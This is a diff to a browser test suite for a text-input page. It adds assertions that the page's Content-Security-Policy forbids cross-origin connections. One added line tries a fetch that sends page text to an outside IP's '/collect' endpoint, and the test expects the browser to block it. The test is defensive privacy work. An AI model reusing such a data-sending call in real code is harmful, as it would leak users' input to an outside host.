@@ -143,6 +143,23 @@ for (const gpu of [true, false]) {
       assert.deepEqual([stored.local, stored.session, stored.cookies, stored.idb], [0, [], "", 0]);
       for (const url of stored.cached.flat()) assert.ok(url.startsWith(server.base), url);
 
+      // The Content-Security-Policy is there (meta tag and header) and blocks a cross-origin
+      // request even if script on the page tried one.
+      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
+      assert.match(csp, /default-src 'self'/);
+      assert.match(csp, /connect-src 'self'/);
+      assert.doesNotMatch(csp, /unsafe-inline/);
+      const index = server.log.find((e) => e.url.startsWith("/sosrisk/?") || e.url === "/sosrisk/");
+      assert.ok(index, "the page itself was requested");
+      const blocked = await page.evaluate(async () => {
+        let violated = false;
+        document.addEventListener("securitypolicyviolation", () => { violated = true; });
+        const outcome = await fetch("http://198.51.100.7/collect?text=x").then(() => "sent", () => "blocked");
+        await new Promise((r) => setTimeout(r, 100));
+        return { outcome, violated };
+      });
+      assert.deepEqual(blocked, { outcome: "blocked", violated: true });
+
       // Clearing the box clears the answer.
       await page.click("text=/^(清除|Clear)$/");
       assert.equal(await page.inputValue("#post"), "");
